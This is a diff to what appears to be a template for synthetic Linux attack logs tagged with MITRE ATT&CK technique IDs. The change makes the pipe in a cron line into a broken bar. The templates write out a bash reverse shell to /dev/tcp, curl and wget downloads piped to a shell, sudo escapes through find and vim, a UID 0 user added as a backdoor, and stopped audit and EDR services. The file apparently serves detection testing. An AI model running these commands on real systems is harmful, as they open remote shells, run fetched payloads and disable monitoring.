@@ -37,7 +37,7 @@ BS#@T1110.001,T1078 sshd: Failed password for <<root|{adm}>> from {wan} port {po
 SB# sshd: Failed password for invalid user {guest} from {wan} port {port} ssh2
 UE# sshd: Invalid user {guest} from {wan} port {port}
 PT@T1543.002 systemd: Started {word}.service - /bin/bash -c "bash -i >& /dev/tcp/{wan}/{port} 0>&1".
-PT@T1053.003 CRON: (root) CMD (<<curl -fsSL http://{wan}/{word}.sh | sh|wget -q -O- http://{dga}/x | bash|/tmp/.{word}/{word} >/dev/null 2>&1>>)
+PT@T1053.003 CRON: (root) CMD (<<curl -fsSL http://{wan}/{word}.sh ¦ sh|wget -q -O- http://{dga}/x ¦ bash|/tmp/.{word}/{word} >/dev/null 2>&1>>)
 PE@T1548.003 sudo: www-data : TTY=unknown ; PWD=/var/www/html/uploads ; USER=root ; COMMAND=<</bin/bash|/usr/bin/find . -exec /bin/sh -p ;|/usr/bin/vim -c :!/bin/sh>>
 PT@T1136.001 useradd: new user: name={word}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/{few}
 DE@T1562.001 systemd: Stopped <<auditd.service - Security Auditing Service|falcon-sensor.service|rsyslog.service - System Logging Service>> (unit masked)
